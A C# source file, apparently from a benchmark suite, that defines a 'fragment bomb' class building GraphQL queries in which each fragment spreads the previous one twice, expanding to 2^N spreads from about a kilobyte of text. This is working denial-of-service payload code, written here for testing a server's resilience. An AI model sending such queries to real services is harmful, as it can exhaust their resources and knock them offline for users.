using System.Text;

namespace Recommender.Benchmarks.Attacks;

/// <summary>
/// <c>query { providers { ...FN } }</c> where each fragment spreads the one below twice: 2^N spreads of
/// <c>F0 { id name }</c> from about 1 KB of text.
/// </summary>
internal sealed class FragmentBombAttack(int levels) : PostAttack
{
    public override string Name => $"fragment-bomb-{levels}";

    public override string Description => $"fragments F1..F{levels}, each spreading the previous twice (2^{levels} spreads of F0)";

    public override bool IsSlow => levels > 26;

    protected override byte[] BuildBody()
    {
        var query = new StringBuilder($"query {{ providers {{ ...F{levels} }} }} fragment F0 on Provider {{ id name }}");
        for (var i = 1; i <= levels; i++)
        {
            query.Append(System.Globalization.CultureInfo.InvariantCulture, $" fragment F{i} on Provider {{ ...F{i - 1} ...F{i - 1} }}");
        }

        return GraphQLBody.Of(query.ToString());
    }
}
